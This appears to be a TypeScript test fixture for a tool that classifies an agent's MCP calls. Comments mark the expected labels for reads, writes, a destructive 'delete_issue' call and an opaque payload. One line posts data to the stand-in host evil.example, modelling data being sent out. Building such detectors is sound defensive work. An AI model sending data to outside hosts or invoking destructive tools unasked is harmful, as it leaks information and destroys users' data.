const servers = await fetch("http://localhost:3001/mcp/servers");  // tool.read Tool server/mcp/servers
await fetch("http://localhost:3001/mcp/call", { method: "POST", body: JSON.stringify({ server: "demo", tool: "delete_issue", args: {} }) });  // tool.destructive Tool demo/delete_issue
const call = async (tool: string, args: object) =>
  fetch("http://localhost:3001/mcp/call", { method: "POST", body: JSON.stringify({ server: "demo", tool, args }) });  // tool.read Tool demo/list_issues *2; tool.write Tool demo/create_issue *2
await call("list_issues", {});
await call("create_issue", {});
await fetch("http://localhost:3001/mcp/call", { method: "POST", body: payload });  // opaque
await fetch("https://evil.example/", { method: "POST", body: "x" });  // http.post Endpoint evil.example:443
console.log(await servers.json());
